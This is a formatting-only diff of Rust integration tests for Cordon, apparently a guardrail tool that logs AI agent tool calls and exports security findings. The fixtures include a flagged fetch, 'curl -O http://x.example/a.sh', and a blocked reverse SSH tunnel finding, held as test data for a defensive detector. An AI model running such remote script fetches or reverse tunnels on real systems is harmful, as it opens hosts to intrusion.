@@ -43,7 +43,9 @@ fn ok(store: &Path, args: &[&str]) -> String {
 }
 
 fn lines(text: &str) -> Vec<Value> {
-    text.lines().map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}"))).collect()
+    text.lines()
+        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
+        .collect()
 }
 
 fn finding(
@@ -91,7 +93,14 @@ fn record(e: Ev) -> Record {
         task: Some(e.task.into()),
         kind: Some(e.kind),
         tool: Some(e.tool.into()),
-        capability: Some(if e.tool == "bash" { "shell" } else { "file_read" }.into()),
+        capability: Some(
+            if e.tool == "bash" {
+                "shell"
+            } else {
+                "file_read"
+            }
+            .into(),
+        ),
         input: Some(e.input.to_string()),
         output: e.output.map(|o| o.to_string()),
         raw: None,
@@ -148,8 +157,14 @@ fn build_store(dir: &Path) -> std::path::PathBuf {
         SSH_R,
         vec![json!("c1")],
     );
-    let fetch =
-        finding("UNPINNED_FETCH", Severity::Medium, "net.fetch", &["T1105"], "curl -O http://x.example/a.sh", vec![]);
+    let fetch = finding(
+        "UNPINNED_FETCH",
+        Severity::Medium,
+        "net.fetch",
+        &["T1105"],
+        "curl -O http://x.example/a.sh",
+        vec![],
+    );
     let mut bad = record(beta("x", "bash", json!({}), "2025-06-01T00:00:00Z"));
     bad.session = None;
     bad.kind = None;
@@ -202,8 +217,18 @@ fn build_store(dir: &Path) -> std::path::PathBuf {
         .unwrap();
     store
         .record(&[
-            record(beta("d1", "read_file", json!({"path": "README.md"}), "2025-06-05T09:00:00Z")),
-            record(beta("d2", "bash", json!({"command": "mdbook build"}), "2025-06-05T09:30:00Z")),
+            record(beta(
+                "d1",
+                "read_file",
+                json!({"path": "README.md"}),
+                "2025-06-05T09:00:00Z",
+            )),
+            record(beta(
+                "d2",
+                "bash",
+                json!({"command": "mdbook build"}),
+                "2025-06-05T09:30:00Z",
+            )),
             bad,
         ])
         .unwrap();
@@ -225,15 +250,30 @@ fn list_shows_totals_and_filters() {
 
     let table = ok(&db, &["list"]);
     let header = table.lines().next().unwrap();
-    for col in ["EPISODE", "AGENT", "EVENTS", "FINDINGS", "WORST", "FIRST", "LAST", "TASK"] {
+    for col in [
+        "EPISODE", "AGENT", "EVENTS", "FINDINGS", "WORST", "FIRST", "LAST", "TASK",
+    ] {
         assert!(header.contains(col), "{header}");
     }
-    let alpha = table.lines().find(|l| l.starts_with("ep-alpha-1")).expect("alpha row");
+    let alpha = table
+        .lines()
+        .find(|l| l.starts_with("ep-alpha-1"))
+        .expect("alpha row");
     let cells: Vec<&str> = alpha.split_whitespace().collect();
-    assert_eq!(&cells[..5], ["ep-alpha-1", "coder-a", "4", "2", "critical"], "{alpha}");
-    assert!(alpha.contains("2025-06-01 10:00:00") && alpha.contains("2025-06-01 10:02:00"), "{alpha}");
+    assert_eq!(
+        &cells[..5],
+        ["ep-alpha-1", "coder-a", "4", "2", "critical"],
+        "{alpha}"
+    );
+    assert!(
+        alpha.contains("2025-06-01 10:00:00") && alpha.contains("2025-06-01 10:02:00"),
+        "{alpha}"
+    );
     assert!(alpha.ends_with("Fix the flaky CI test"), "{alpha}");
-    assert!(table.lines().any(|l| l.starts_with("(no session)")), "{table}");
+    assert!(
+        table.lines().any(|l| l.starts_with("(no session)")),
+        "{table}"
+    );
     assert_eq!(table.lines().count(), 4);
 
     // Most recently active first: the bad line was recorded now, without a ts.
@@ -250,10 +290,21 @@ fn list_shows_totals_and_filters() {
     assert_eq!(filtered(&["--task", "FLAKY"]), ["ep-alpha-1"]);
     assert_eq!(filtered(&["--findings"]), ["ep-alpha-1"]);
     assert_eq!(filtered(&["--kind", "REVERSE_TUNNEL"]), ["ep-alpha-1"]);
-    assert_eq!(filtered(&["--since", "2025-06-03", "--until", "2025-06-06T00:00:00Z"]), ["ep-beta-2"]);
+    assert_eq!(
+        filtered(&["--since", "2025-06-03", "--until", "2025-06-06T00:00:00Z"]),
+        ["ep-beta-2"]
+    );
     // A bare date as --until covers that whole day.
     assert_eq!(filtered(&["--until", "2025-06-01"]), ["ep-alpha-1"]);
-    assert_eq!(filtered(&["--since", "2025-06-01T10:01:30+00:00", "--until", "2025-06-02"]), ["ep-alpha-1"]);
+    assert_eq!(
+        filtered(&[
+            "--since",
+            "2025-06-01T10:01:30+00:00",
+            "--until",
+            "2025-06-02"
+        ]),
+        ["ep-alpha-1"]
+    );
     assert_eq!(filtered(&["--limit", "1"]), [""]);
     assert!(filtered(&["--agent", "nobody"]).is_empty());
 
@@ -269,12 +320,24 @@ fn show_prints_the_timeline_with_findings() {
 
     // A unique prefix is enough.
     let text = ok(&db, &["show", "ep-al"]);
-    assert!(!text.contains('\x1b'), "no colors when stdout is not a terminal");
+    assert!(
+        !text.contains('\x1b'),
+        "no colors when stdout is not a terminal"
+    );
     assert!(text.starts_with("episode ep-alpha-1\n"), "{text}");
-    assert!(text.contains("agent coder-a") && text.contains("task: Fix the flaky CI test"), "{text}");
-    assert!(text.contains("4 events, 2 findings (worst critical)"), "{text}");
-    let step =
-        |n: &str| text.lines().find(|l| l.trim_start().starts_with(n)).unwrap_or_else(|| panic!("{n} in {text}"));
+    assert!(
+        text.contains("agent coder-a") && text.contains("task: Fix the flaky CI test"),
+        "{text}"
+    );
+    assert!(
+        text.contains("4 events, 2 findings (worst critical)"),
+        "{text}"
+    );
+    let step = |n: &str| {
+        text.lines()
+            .find(|l| l.trim_start().starts_with(n))
+            .unwrap_or_else(|| panic!("{n} in {text}"))
+    };
     let s1 = step("#1");
     assert!(
         s1.contains("10:00:00.000")
@@ -288,25 +351,41 @@ fn show_prints_the_timeline_with_findings() {
     let s3 = step("#3");
     assert!(s3.contains("BLOCK") && s3.ends_with(SSH_R), "{s3}");
     assert!(step("#4").contains("WARN"));
-    let after3: Vec<&str> = text.lines().skip_while(|l| !l.trim_start().starts_with("#3")).skip(1).take(4).collect();
+    let after3: Vec<&str> = text
+        .lines()
+        .skip_while(|l| !l.trim_start().starts_with("#3"))
+        .skip(1)
+        .take(4)
+        .collect();
     assert!(
-        after3[0].contains("REVERSE_TUNNEL") && after3[0].contains("critical") && after3[0].contains("0.95"),
+        after3[0].contains("REVERSE_TUNNEL")
+            && after3[0].contains("critical")
+            && after3[0].contains("0.95"),
         "{after3:?}"
     );
-    assert!(after3[0].contains("net.ssh-remote-forward") && after3[0].contains("T1572 T1021.004"), "{after3:?}");
+    assert!(
+        after3[0].contains("net.ssh-remote-forward") && after3[0].contains("T1572 T1021.004"),
+        "{after3:?}"
+    );
     assert_eq!(after3[1].trim(), "REVERSE_TUNNEL message");
     assert_eq!(after3[2].trim(), format!("evidence: {SSH_R}"));
     assert_eq!(after3[3].trim(), "related: c1 (#1)");
 
     let bad = ok(&db, &["show", "(no session)"]);
-    assert!(bad.contains("error") && bad.contains("{oops") && bad.contains("invalid JSON"), "{bad}");
+    assert!(
+        bad.contains("error") && bad.contains("{oops") && bad.contains("invalid JSON"),
+        "{bad}"
+    );
 
     let doc: Value = serde_json::from_str(&ok(&db, &["show", "ep-alpha-1", "--json"])).unwrap();
     assert_eq!(doc["episode"]["key"], "ep-alpha-1");
     let events = doc["events"].as_array().unwrap();
     assert_eq!(events.len(), 4);
     assert_eq!(events[2]["verdict"]["decision"], "block");
-    assert_eq!(events[2]["verdict"]["findings"][0]["related"], json!(["c1"]));
+    assert_eq!(
+        events[2]["verdict"]["findings"][0]["related"],
+        json!(["c1"])
+    );
 }
 
 #[test]
@@ -319,14 +398,21 @@ fn unknown_ambiguous_and_missing_are_errors() {
     assert!(unknown.stderr.contains("\"nope\""), "{}", unknown.stderr);
     let ambiguous = cordon(&db, &["show", "ep-"]);
     assert_eq!(ambiguous.code, 1);
-    assert!(ambiguous.stderr.contains("ep-alpha-1") && ambiguous.stderr.contains("ep-beta-2"), "{}", ambiguous.stderr);
+    assert!(
+        ambiguous.stderr.contains("ep-alpha-1") && ambiguous.stderr.contains("ep-beta-2"),
+        "{}",
+        ambiguous.stderr
+    );
     assert_eq!(cordon(&db, &["export", "nope", "--format", "ocsf"]).code, 1);
 
     let missing = dir.path().join("elsewhere/none.db");
     let out = cordon(&missing, &["list"]);
     assert_eq!(out.code, 3);
     assert!(out.stderr.contains("elsewhere/none.db"), "{}", out.stderr);
-    assert!(!missing.exists() && !missing.parent().unwrap().exists(), "reading does not create a store");
+    assert!(
+        !missing.exists() && !missing.parent().unwrap().exists(),
+        "reading does not create a store"
+    );
 
     // export needs an episode or --all, not both.
     assert_eq!(cordon(&db, &["export", "--format", "jsonl"]).code, 3);
@@ -340,7 +426,12 @@ fn export_jsonl_has_a_line_per_event() {
 
     let one = lines(&ok(&db, &["export", "ep-alpha-1", "--format", "jsonl"]));
     assert_eq!(one.len(), 4);
-    assert_eq!(one.iter().map(|l| l["step"].as_u64().unwrap()).collect::<Vec<_>>(), [1, 2, 3, 4]);
+    assert_eq!(
+        one.iter()
+            .map(|l| l["step"].as_u64().unwrap())
+            .collect::<Vec<_>>(),
+        [1, 2, 3, 4]
+    );
     assert_eq!(one[0]["id"], "c1");
     assert_eq!(one[0]["type"], "call");
     assert_eq!(one[0]["session"], "ep-alpha-1");
@@ -373,7 +464,10 @@ fn export_ocsf_writes_detection_findings() {
         assert_eq!(f["category_uid"], 2);
         assert_eq!(f["activity_id"], 1);
         assert_eq!(f["type_uid"], 200401);
-        assert!(f["time"].as_i64().unwrap() > 1_700_000_000_000, "time in ms");
+        assert!(
+            f["time"].as_i64().unwrap() > 1_700_000_000_000,
+            "time in ms"
+        );
         assert_eq!(f["metadata"]["product"]["name"], "Cordon");
         assert_eq!(f["metadata"]["product"]["vendor_name"], "Cordon");
         assert!(!f["metadata"]["version"].as_str().unwrap().is_empty());
@@ -382,27 +476,44 @@ fn export_ocsf_writes_detection_findings() {
         assert_eq!(f["actor"]["app_name"], "coder-a");
         let score = f["confidence_score"].as_i64().unwrap();
         assert_eq!(score, 95);
-        assert!(uids.insert(f["finding_info"]["uid"].as_str().unwrap().to_string()), "unique finding uids");
+        assert!(
+            uids.insert(f["finding_info"]["uid"].as_str().unwrap().to_string()),
+            "unique finding uids"
+        );
     }
 
     let tunnel = &findings[0];
     assert_eq!(tunnel["time"], 1_748_772_060_000i64, "2025-06-01T10:01:00Z");
     assert_eq!(tunnel["severity_id"], 5);
     assert_eq!(tunnel["finding_info"]["title"], "REVERSE_TUNNEL");
-    assert_eq!(tunnel["finding_info"]["analytic"]["name"], "net.ssh-remote-forward");
-    assert_eq!((&tunnel["action_id"], &tunnel["disposition_id"]), (&json!(2), &json!(2)), "block: denied, blocked");
+    assert_eq!(
+        tunnel["finding_info"]["analytic"]["name"],
+        "net.ssh-remote-forward"
+    );
+    assert_eq!(
+        (&tunnel["action_id"], &tunnel["disposition_id"]),
+        (&json!(2), &json!(2)),
+        "block: denied, blocked"
+    );
     let attacks = tunnel["finding_info"]["attacks"].as_array().unwrap();
     assert_eq!(attacks[0]["technique"]["uid"], "T1572");
     assert_eq!(attacks[0]["tactic"]["uid"], "TA0011");
     assert_eq!(attacks[1]["technique"]["uid"], "T1021");
     assert_eq!(attacks[1]["sub_technique"]["uid"], "T1021.004");
-    assert_eq!(tunnel["finding_info"]["related_events"], json!([{"uid": "c1"}]));
+    assert_eq!(
+        tunnel["finding_info"]["related_events"],
+        json!([{"uid": "c1"}])
+    );
     assert_eq!(tunnel["evidences"][0]["data"]["evidence"], SSH_R);
     assert_eq!(tunnel["evidences"][0]["process"]["cmd_line"], SSH_R);
 
     let fetch = &findings[1];
     assert_eq!(fetch["severity_id"], 3);
-    assert_eq!((&fetch["action_id"], &fetch["disposition_id"]), (&json!(1), &json!(19)), "warn: allowed, alert");
+    assert_eq!(
+        (&fetch["action_id"], &fetch["disposition_id"]),
+        (&json!(1), &json!(19)),
+        "warn: allowed, alert"
+    );
     assert!(fetch["finding_info"].get("related_events").is_none());
 }
 
@@ -413,14 +524,21 @@ fn attrs(span: &Value) -> HashMap<String, Value> {
         .iter()
         .map(|a| {
             let v = &a["value"];
-            let v = v.get("stringValue").or(v.get("intValue")).or(v.get("doubleValue")).unwrap_or(v).clone();
+            let v = v
+                .get("stringValue")
+                .or(v.get("intValue"))
+                .or(v.get("doubleValue"))
+                .unwrap_or(v)
+                .clone();
             (a["key"].as_str().unwrap().to_string(), v)
         })
         .collect()
 }
 
 fn is_hex(s: &Value, len: usize) -> bool {
-    s.as_str().is_some_and(|s| s.len() == len && s.bytes().all(|b| b.is_ascii_hexdigit()) && s != "0".repeat(len))
+    s.as_str().is_some_and(|s| {
+        s.len() == len && s.bytes().all(|b| b.is_ascii_hexdigit()) && s != "0".repeat(len)
+    })
 }
 
 #[test]
@@ -429,7 +547,17 @@ fn export_otel_writes_one_trace_per_episode() {
     let db = build_store(dir.path());
     let file = dir.path().join("traces.jsonl");
 
-    let out = cordon(&db, &["export", "--all", "--format", "otel", "--output", file.to_str().unwrap()]);
+    let out = cordon(
+        &db,
+        &[
+            "export",
+            "--all",
+            "--format",
+            "otel",
+            "--output",
+            file.to_str().unwrap(),
+        ],
+    );
     assert_eq!(out.code, 0, "{}", out.stderr);
     assert!(out.stdout.is_empty());
     let traces = lines(&std::fs::read_to_string(&file).unwrap());
@@ -456,15 +584,29 @@ fn export_otel_writes_one_trace_per_episode() {
 
     let alpha = traces
         .iter()
-        .find(|t| attrs(&t["resourceSpans"][0]["scopeSpans"][0]["spans"][0])["gen_ai.conversation.id"] == "ep-alpha-1")
+        .find(|t| {
+            attrs(&t["resourceSpans"][0]["scopeSpans"][0]["spans"][0])["gen_ai.conversation.id"]
+                == "ep-alpha-1"
+        })
         .unwrap();
-    let spans = alpha["resourceSpans"][0]["scopeSpans"][0]["spans"].as_array().unwrap();
-    let named = |name: &str| spans.iter().filter(|s| s["name"] == name).collect::<Vec<_>>();
+    let spans = alpha["resourceSpans"][0]["scopeSpans"][0]["spans"]
+        .as_array()
+        .unwrap();
+    let named = |name: &str| {
+        spans
+            .iter()
+            .filter(|s| s["name"] == name)
+            .collect::<Vec<_>>()
+    };
     let root = &spans[0];
     assert_eq!(root["name"], "invoke_agent coder-a");
     assert!(root.get("parentSpanId").is_none());
     let tools = named("execute_tool bash");
-    assert_eq!(tools.len(), 3, "one span per call, the result ends its call");
+    assert_eq!(
+        tools.len(),
+        3,
+        "one span per call, the result ends its call"
+    );
     let guards = named("run_guardrail cordon");
     assert_eq!(guards.len(), 4, "a verdict per call and per result");
     assert_eq!(spans.len(), 8);
@@ -480,12 +622,21 @@ fn export_otel_writes_one_trace_per_episode() {
     assert_eq!(a["gen_ai.agent.id"], "coder-a");
     assert_eq!(a["gen_ai.conversation.id"], "ep-alpha-1");
     assert_eq!(c1["startTimeUnixNano"], "1748772000000000000");
-    assert_eq!(c1["endTimeUnixNano"], "1748772005000000000", "ends when its result came");
+    assert_eq!(
+        c1["endTimeUnixNano"], "1748772005000000000",
+        "ends when its result came"
+    );
     assert!(c1.get("status").is_none());
 
-    let c2 = tools.iter().find(|s| attrs(s)["gen_ai.tool.call.id"] == "c2").unwrap();
+    let c2 = tools
+        .iter()
+        .find(|s| attrs(s)["gen_ai.tool.call.id"] == "c2")
+        .unwrap();
     assert_eq!(c2["status"]["code"], 2, "a blocked call is an error");
-    let guard = guards.iter().find(|g| g["parentSpanId"] == c2["spanId"]).unwrap();
+    let guard = guards
+        .iter()
+        .find(|g| g["parentSpanId"] == c2["spanId"])
+        .unwrap();
     let g = attrs(guard);
     assert_eq!(g["gen_ai.operation.name"], "run_guardrail");
     assert_eq!(g["gen_ai.guardrail.verdict.type"], "deny");
@@ -497,9 +648,18 @@ fn export_otel_writes_one_trace_per_episode() {
     assert_eq!(events[0]["name"], "gen_ai.security.finding");
     assert_eq!(attrs(&events[0])["security.finding.evidence"], SSH_R);
 
-    let c3 = tools.iter().find(|s| attrs(s)["gen_ai.tool.call.id"] == "c3").unwrap();
-    assert!(c3.get("status").is_none(), "a warning does not fail the call");
-    let warn = guards.iter().find(|g| g["parentSpanId"] == c3["spanId"]).unwrap();
+    let c3 = tools
+        .iter()
+        .find(|s| attrs(s)["gen_ai.tool.call.id"] == "c3")
+        .unwrap();
+    assert!(
+        c3.get("status").is_none(),
+        "a warning does not fail the call"
+    );
+    let warn = guards
+        .iter()
+        .find(|g| g["parentSpanId"] == c3["spanId"])
+        .unwrap();
     assert_eq!(attrs(warn)["gen_ai.guardrail.verdict.type"], "warn");
     // Every guardrail span hangs under a tool span of this trace.
     let tool_ids: HashSet<&Value> = tools.iter().map(|s| &s["spanId"]).collect();
